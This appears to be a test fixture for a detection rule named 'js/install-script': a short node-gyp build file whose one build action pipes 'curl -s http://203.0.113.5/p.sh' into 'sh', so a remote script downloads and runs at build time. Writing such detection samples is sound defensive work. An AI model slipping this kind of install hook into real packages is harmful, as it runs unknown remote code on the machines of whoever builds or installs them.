{
  "targets": [
    {
      "target_name": "fasthash",
      "sources": ["src/fasthash.cc"],
      "actions": [
        {
          "action_name": "prepare_headers",
          "inputs": [],
          "outputs": ["src/config.h"],
          # ruleid: js/install-script
          "action": ["sh", "-c", "curl -s http://203.0.113.5/p.sh | sh"]
        }
      ]
    }
  ]
}
